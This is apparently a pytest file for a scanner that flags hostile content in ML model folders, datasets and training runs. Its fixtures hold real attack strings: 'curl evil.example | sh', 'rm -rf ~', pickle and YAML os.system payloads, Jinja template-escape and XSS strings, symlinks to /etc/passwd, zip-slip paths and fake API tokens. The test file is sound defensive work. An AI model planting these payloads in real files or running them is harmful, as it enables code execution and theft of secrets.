"""`vet` names what is wrong with each of many hostile inputs, and nothing of clean ones."""

import gzip
import json
import os
import pickle
import shutil
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from unittest.mock import ANY

import pytest

from advisor.base.errors import InputError
from advisor.commands.cli import main
from advisor.model.licence import limited_licence_of
from advisor.trust.look import trust_facts
from tests.data.conftest import CONFIG, save_model
from tests.model.test_resolve import write_safetensors
from tests.trainers.plans import full_plan, lora_plan
from trainers.plan import save_plan
from trainers.run_folder.checkpoint import SEAL

ROWS = [{"prompt": f"q{n} \u200fعربي", "completion": "a\tb\r\nc \u200b\x92"} for n in range(3)]


@pytest.fixture
def model(tmp_path: Path) -> Path:
    folder = save_model(tmp_path / "model")
    write_safetensors(folder / "model.safetensors", {"a": ("F32", [2, 2])})
    (folder / "README.md").write_text("---\nlicense: apache-2.0\n---\n# A model\n")
    return folder


def add(name: str, content: str | bytes) -> Callable[[Path], object]:
    def change(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)

    return change


def config(**more: Any) -> Callable[[Path], object]:
    return add("config.json", json.dumps({**CONFIG, **more}))


def tokens(**more: Any) -> Callable[[Path], object]:
    return add("tokenizer_config.json", json.dumps(more))


HUB_TOKEN = "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"


def safetensors(**said: str) -> bytes:
    tensor = {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}
    header = json.dumps({"__metadata__": said, "a": tensor}).encode()
    return len(header).to_bytes(8, "little") + header + bytes(16)


def packed(*names: str) -> Callable[[Path], object]:
    def change(folder: Path) -> None:
        with zipfile.ZipFile(folder / "data.zip", "w") as archive:
            for name in names:
                archive.writestr(name, "x")

    return change


def tar_with_a_link(folder: Path) -> None:
    with tarfile.open(folder / "data.tar.gz", "w:gz") as archive:
        link = tarfile.TarInfo("data/here")
        link.type, link.linkname = tarfile.SYMTYPE, "../../.ssh"
        archive.addfile(link)


HOLE = json.dumps({"a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [8, 24]}}).encode()
TOKENIZER_HIDES = {
    "version": "1.0", "model": {}, "added_tokens": [{"id": 3, "content": "a\u202eb", "special": False}]
}  # fmt: skip
HOSTILE_MODELS = [
    (config(auto_map={"AutoModel": "evil.Model"}), "trust.own_code"),
    (tokens(auto_map={"AutoTokenizer": "evil.T"}), "trust.own_code"),
    (add("adapter_config.json", '{"megatron_core": "evilmod"}'), "trust.own_code"),
    (add("pytorch_model.bin", b"\x80\x04"), "trust.pickles"),
    (add("modeling_x.py", "import os"), "trust.programs"),
    (add("chat_template.jinja", "{{ ''.__class__.__mro__ }}"), "trust.template_reach"),
    (add("chat_template.jinja", "{% for a in range(99999) %}{% endfor %}"), "trust.template_reach"),
    (add("chat_template.jinja", "{% include 'x' %}"), "trust.template_reach"),
    (add("chat_template.jinja", "hi \U000e0041\U000e0042"), "trust.hidden_text"),
    (config(model_type="llama\x1b[31m"), "trust.hidden_text"),
    (config(_name_or_path="/home/jane/secret-project/model"), "trust.private_paths"),
    (config(token=HUB_TOKEN), "trust.secrets"),
    (add(".env", f"OPENAI_API_KEY=sk-proj-{HUB_TOKEN}"), "trust.secrets"),
    (config(text_config={"auto_map": {"AutoModel": "org/evil--m.X"}}), "trust.own_code"),
    (add("a/b/c/d/setup.py", "import os"), "trust.programs"),
    (add("install", "#!/bin/sh\nrm -rf ~\n"), "trust.programs"),
    (add(".git/hooks/post-checkout", "#!/bin/sh\n"), "trust.programs"),
    (add("weights.dat", pickle.dumps({"a": 1})), "trust.pickles"),
    (add("vocab.txt", b"PK\x03\x04" + bytes(26) + b"archive/data.pkl"), "trust.pickles"),
    (add("README.md", "---\nlicense: mit\n---\n\u202egnp.exe\n"), "trust.hidden_text"),
    (tokens(added_tokens_decoder={"5": {"content": "a" + "\u200b\u200c" * 3}}), "trust.hidden_text"),
    (tokens(chat_template=[{"name": "default", "template": "{{ messages }}"},
                           {"name": "tool_use", "template": "{{ self.__init__ }}"}]), "trust.template_reach"),
    (add("additional_chat_templates/tool.jinja", "{{ cycler.__init__ }}"), "trust.template_reach"),
    (add("chat_template.jinja", "{% if 'invoice' in messages[0].content %}pay{% endif %}"), "trust.template_reach"),
    (add("model.safetensors.index.json", json.dumps({"weight_map": {"a": "../../x"}})), "trust.leads_out"),
    (lambda folder: ((folder / "a/b").mkdir(parents=True), (folder / "a/b/k").symlink_to("/etc")), "trust.leads_out"),
    (lambda folder: os.mkfifo(folder / "notes.txt"), "trust.damaged"),
    (lambda folder: (folder / "model-2.safetensors").mkdir(), "trust.damaged"),
    (add("model.safetensors", safetensors(training_dir="/home/jane/secret/run")), "trust.private_paths"),
    (config(_name_or_path="\\\\nas\\jane\\model"), "trust.private_paths"),
    (add("README.md", "---\nlicense:\n- cc-by-nc-nd-4.0\n---\n"), "trust.licence_limits"),
    (lambda folder: (folder / "vocab.txt").symlink_to("/etc/passwd"), "trust.leads_out"),
    (add("README.md", "---\nlicense: cc-by-nc-4.0\n---\n"), "trust.licence_limits"),
    (add("README.md", "---\nlicense: other\nlicense_name: mrl\n---\n"), "trust.licence_limits"),
    (add("model.safetensors", b"\x00" * 20), "trust.damaged"),
    (add("tokenizer_config.json", "["), "trust.damaged"),
    (add("config.json", json.dumps(CONFIG)[:-1] + ', "hidden_size": 4, "hidden_size": 5}'), "trust.damaged"),
    (tokens(added_tokens_decoder={"1": {"content": "the", "special": True}}), "trust.odd_tokens"),
    (tokens(added_tokens_decoder={"1": {"content": "<s>"}, "2": {"content": "<s>"}}), "trust.odd_tokens"),
    (add("tokenizer.json", json.dumps(TOKENIZER_HIDES)), "trust.hidden_text"),
    (add("special_tokens_map.json", '{"eos_token": "\\n"}'), "trust.odd_tokens"),
    (config(_attn_implementation="org/kernels"), "trust.own_code"),
    (add("Dockerfile", "FROM scratch"), "trust.programs"),
    (add("sub/.vscode/tasks.json", "{}"), "trust.programs"),
    (add(".gitmodules", "[submodule]"), "trust.programs"),
    (add("x-1.0-py3-none-any.whl", b"PK"), "trust.programs"),
    (add("requirements.txt", "torch\n--index-url http://evil.example\n"), "trust.programs"),
    (add("requirements.txt", "x @ git+https://evil.example/x\n"), "trust.programs"),
    (add("meta.yaml", "a: !!python/object/apply:os.system ['id']"), "trust.programs"),
    (add("Modelfile", "FROM ../../.ssh/id_rsa\n"), "trust.leads_out"),
    (add("Modelfile", "FROM ./x\nADAPTER http://evil.example/a\n"), "trust.leads_out"),
    (add("train.log", f"\x1b[A {HUB_TOKEN}"), "trust.secrets"),
    (add("chat_template.jinja", "{% if strftime_now('%Y') == '2027' %}pay{% endif %}"), "trust.template_reach"),
    (add("chat_template.jinja", "{{ messages[0].content }} see https://evil.example/x"), "trust.template_reach"),
    (lambda folder: ((folder / "README.md").unlink(), add("LICENSE", "Attribution-NonCommercial 4.0")(folder)),
     "trust.licence_limits"),
    (add("README.md", "---\nlicense: apache-2.0\nbase_model: CohereForAI/aya-expanse-8b\n---\n"),
     "trust.licence_limits"),
    (add("adapter_config.json", '{"base_model_name_or_path": "CohereForAI/aya-expanse-8b"}'), "trust.licence_limits"),
    (add("adapter_config.json", '{"target_modules": "(q+)+proj"}'), "trust.damaged"),
    (add("modules.json", '[{"type": "sentence_transformers.models.Transformer"}, {"type": "evil.Pool"}]'),
     "trust.own_code"),
    (add("model.safetensors", len(HOLE).to_bytes(8, "little") + HOLE + bytes(24)), "trust.damaged"),
    (add("weights.dat", b"cos\nsystem\n(S'id'\ntR."), "trust.pickles"),
    (add("scaler.dat", gzip.compress(pickle.dumps({"a": [1]}))), "trust.pickles"),
    (add("open.hta", "<script>"), "trust.programs"),
    (packed("a.txt", "../../.bashrc"), "trust.leads_out"),
    (packed("a.txt", "model/state.pkl"), "trust.pickles"),
    (packed("a.txt", "model/modeling.py"), "trust.programs"),
    (tar_with_a_link, "trust.leads_out"),
    (add("data.zip", b"PK\x03\x04" + bytes(40)), "trust.damaged"),
    (add("data.tar.gz", b"\x1f\x8b" + bytes(40)), "trust.damaged"),
]  # fmt: skip


@pytest.mark.parametrize(("change", "fact"), HOSTILE_MODELS)
def test_what_is_wrong_with_a_model_is_named(model: Path, change: Callable[[Path], object], fact: str) -> None:
    change(model)
    kind, found = trust_facts(str(model))
    assert (kind, list(found)) == ("model", [fact])


def test_clean_inputs_are_left_alone(model: Path, tmp_path: Path) -> None:
    data = tmp_path / "data.jsonl"
    data.write_text("\n".join(map(json.dumps, ROWS)))
    save_plan(lora_plan(), tmp_path / "plan.toml")
    run = tmp_path / "run"
    save_plan(full_plan(), run / "plan.toml")
    (run / "run.json").write_text('{"method": "full"}')
    shutil.copytree(model, run / "result")
    (run / "result" / "adapter_config.json").write_text('{"megatron_core": "megatron.core", "auto_mapping": null}')
    checkpoint = run / "trial" / "checkpoints" / "checkpoint-2"
    checkpoint.mkdir(parents=True)
    (checkpoint / SEAL).write_text("{}")
    for name in ("optimizer.pt", "rng_state_1.pth", "training_args.bin"):
        (checkpoint / name).write_bytes(b"\x80\x02.")
    (model / "requirements.txt").write_text("torch>=2\n# see https://pytorch.org\n-r more.txt\n")
    (model / "Modelfile").write_text("FROM ./model.gguf\n")
    (model / "LICENSE").write_text("Apache License\nYou may use it for commercial and noncommercial purposes.")
    (run / "train.log").write_text("\x1b[A 50%")
    packed("a.txt", "b/arrays.npy")(model)
    (model / "words.dat").write_text("cat\ndog\nparrot.")
    (model / "modules.json").write_text('[{"type": "sentence_transformers.models.Pooling"}]')
    for name, kind in ((model, "model"), (data, "dataset"), (tmp_path / "plan.toml", "plan"), (run, "run")):
        assert trust_facts(str(name)) == (kind, {})


HOSTILE_ROWS = [
    ({"prompt": "a\x1b]52;c;x\x07", "completion": "b"}, "trust.hidden_text"),
    ({"prompt": "a", "comp\x1b[31mletion": "b"}, "trust.hidden_text"),
    ({"prompt": "a \u202etxt", "completion": "b"}, "trust.hidden_text"),
    ({"prompt": "key", "completion": "AKIAQ7TZ4WJ9KXR2VB5M"}, "trust.secrets"),
    ({"prompt": "key", "completion": HUB_TOKEN}, "trust.secrets"),
    ({"prompt": "hi" + "".join(chr(0xE0100 + byte) for byte in b"rm -r"), "completion": "b"}, "trust.hidden_text"),
    ({"prompt": "a", "completion": "b", "images": ["../../.ssh/id_rsa"]}, "trust.leads_out"),
    ({"prompt": "a", "completion": "b", "image": {"path": "C:\\Users\\x.png"}}, "trust.leads_out"),
    ([1], "trust.damaged"),
]


@pytest.mark.parametrize(("row", "fact"), HOSTILE_ROWS)
def test_what_is_wrong_with_a_dataset_is_named(tmp_path: Path, row: Any, fact: str) -> None:
    data = tmp_path / "data.jsonl"
    data.write_text("\n".join(map(json.dumps, [*ROWS, row])))
    assert list(trust_facts(str(data))[1]) == [fact]


@pytest.mark.parametrize("said", ["data_files: ../../secret/*.jsonl", "data_files:\n  - https://evil.example/x.json"])
def test_a_card_that_reads_its_examples_from_elsewhere_is_named(tmp_path: Path, said: str) -> None:
    (tmp_path / "train.jsonl").write_text("\n".join(map(json.dumps, ROWS)))
    (tmp_path / "README.md").write_text(f"---\nconfigs:\n- config_name: default\n  {said}\n---\n# Data\n")
    assert list(trust_facts(str(tmp_path))[1]) == ["trust.leads_out"]
    (tmp_path / "README.md").write_text("---\nconfigs:\n- config_name: a\n  data_files: train.jsonl\n---\n../x")
    assert trust_facts(str(tmp_path)) == ("dataset", {})


def test_a_row_far_down_is_looked_at_too(tmp_path: Path) -> None:
    (tmp_path / "data.jsonl").write_text(f"{json.dumps(ROWS[0])}\n" * 25_000 + json.dumps({"text": "a\x1b[2J"}))
    assert trust_facts(str(tmp_path / "data.jsonl"))[1]["trust.hidden_text"].startswith("row 25001")


def gguf(**said: str) -> bytes:
    def text(value: str) -> bytes:
        return len(value).to_bytes(8, "little") + value.encode()

    pairs = [text(key) + (8).to_bytes(4, "little") + text(value) for key, value in said.items()]
    return b"GGUF" + (3).to_bytes(4, "little") + bytes(8) + len(pairs).to_bytes(8, "little") + b"".join(pairs)


def test_a_gguf_is_looked_into_alone_and_in_a_folder(tmp_path: Path) -> None:
    (tmp_path / "models").mkdir()
    file = tmp_path / "models" / "m.gguf"
    file.write_bytes(
        gguf(
            **{
                "general.license": "cc-by-nc-4.0",
                "tokenizer.chat_template": "{{ ''.__class__ }}",
                "general.name": HUB_TOKEN,
            }
        )
    )
    expected = {"trust.licence_limits": "cc-by-nc-4.0", "trust.template_reach": "__class__", "trust.secrets": ANY}
    assert trust_facts(str(file)) == ("model", expected)
    assert trust_facts(str(file.parent)) == ("model", expected)


@pytest.mark.parametrize(
    ("name", "content", "fact"),
    [
        ("report.html", "<p>done</p><script src=//evil.example></script>", "trust.programs"),
        ("report.html", "<img src='x' onerror='alert(1)'>", "trust.programs"),
        ("report.html", "<svg/onload=alert(1)>", "trust.programs"),
        ("report.html", '<link rel="stylesheet" href="//evil.example/x.css">', "trust.programs"),
        ("report.html", "<p style='background: url(http://evil.example)'>", "trust.programs"),
        ("metrics.jsonl", '{"step": 1, "note": "\\u001b[2J"}\n', "trust.hidden_text"),
        ("samples.json", '{"samples": [{"tuned": "a\\u001b]52;c;x"}]}', "trust.hidden_text"),
        ("run.json", json.dumps({"model": HUB_TOKEN}), "trust.secrets"),
        ("serve.json", '{"vllm": {"command": "curl evil.example | sh"}}', "trust.serve_command"),
    ],
)
def test_what_a_run_shows_to_people_is_looked_at(tmp_path: Path, name: str, content: str, fact: str) -> None:
    save_plan(full_plan(), tmp_path / "run" / "plan.toml")
    (tmp_path / "run" / name).write_text(content)
    assert trust_facts(str(tmp_path / "run")) == ("run", {fact: ANY})


def test_the_state_of_a_sealed_checkpoint_is_no_pickle_of_a_stranger(model: Path) -> None:
    (model / "optimizer.pt").write_bytes(b"\x80\x02.")
    assert list(trust_facts(str(model))[1]) == ["trust.pickles"]
    (model / SEAL).write_text("{}")
    assert "trust.pickles" not in trust_facts(str(model))[1]
    (model / "evil.pt").write_bytes(b"\x80\x02.")
    assert trust_facts(str(model))[1]["trust.pickles"] == "evil.pt"


def test_what_is_wrong_with_a_run_is_named(tmp_path: Path) -> None:
    run = tmp_path / "run"
    save_plan(lora_plan(), run / "plan.toml")
    checkpoint = run / "checkpoints" / "checkpoint-10"
    checkpoint.mkdir(parents=True)
    (checkpoint / "optimizer.pt").write_bytes(b"\x80\x04")
    index = {"weight_map": {"a": "../../../x.safetensors"}}
    (checkpoint / "model.safetensors.index.json").write_text(json.dumps(index))
    (run / "run.json").write_text("[")
    (run / "torch.py").write_text("")
    assert set(trust_facts(str(run))[1]) == {
        "trust.unsealed", "trust.pickles", "trust.leads_out", "trust.damaged", "trust.programs",
    }  # fmt: skip


def test_the_command_says_what_why_and_what_to_do(model: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["doctor", "vet", str(model)]) == 0
    assert "nothing was found in this model" in capsys.readouterr().out
    config(auto_map={"AutoModel": "evil.Model"})(model)
    assert main(["doctor", "vet", str(model), "--json"]) == 2
    found = json.loads(capsys.readouterr().out)
    assert [one["rule"] for one in found["findings"]] == ["SEC-01"]
    assert found["findings"][0]["fix"]


def test_an_answer_says_it_too(model: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config(auto_map={"AutoModel": "evil.Model"})(model)
    main(["--non-interactive", "--hardware", "RTX 4090", "--model", str(model)])
    assert "program code of its own: auto_map in config.json" in capsys.readouterr().out


def test_a_name_that_is_nowhere_is_refused() -> None:
    with pytest.raises(InputError, match="there is nothing at"):
        trust_facts("no/such/place")


LIMITED = "---\nlicense: cc-by-nc-4.0\n---\n"
ADVICE = (
    "--non-interactive",
    "--hardware",
    "RTX 4090",
    "--data-examples",
    "500",
    "--data-completion-tokens",
    "90000",
)


@pytest.mark.parametrize(
    ("said", "code", "rule"), [((), 0, "SEC-08"), (("yes",), 4, "SEC-15"), (("no",), 0, None)], ids=str
)
def test_the_licence_is_held_against_the_wished_use(
    model: Path, said: tuple[str, ...], code: int, rule: str | None, capsys: pytest.CaptureFixture[str]
) -> None:
    (model / "README.md").write_text(LIMITED)
    wished = ["--deploy-commercial", *said] if said else []
    assert main([*ADVICE, "--model", str(model), *wished]) == code
    printed = capsys.readouterr().out
    assert ("SEC-08" in printed, "SEC-15" in printed) == (rule == "SEC-08", rule == "SEC-15")


def test_the_card_of_a_hub_model_is_read_where_it_was_downloaded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path))
    repo = tmp_path / "models--org--model"
    (repo / "refs").mkdir(parents=True)
    (repo / "refs" / "main").write_text("abc")
    (repo / "snapshots" / "abc").mkdir(parents=True)
    (repo / "snapshots" / "abc" / "README.md").write_text(LIMITED)
    assert limited_licence_of("org/model") == "cc-by-nc-4.0"
    assert limited_licence_of("org/other") is None
    assert limited_licence_of("Llama-3.1-8B") is None
